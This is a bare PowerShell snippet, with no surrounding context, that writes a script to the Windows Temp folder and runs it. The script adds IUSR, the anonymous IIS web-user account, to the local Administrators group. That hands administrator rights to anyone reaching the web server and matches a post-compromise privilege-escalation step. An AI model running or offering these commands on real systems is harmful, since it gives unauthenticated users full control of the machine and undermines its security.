$p = 'C:\Windows\Temp\step.ps1'
@'
Add-LocalGroupMember -Group Administrators -Member IUSR
'@ | Set-Content $p
& $p
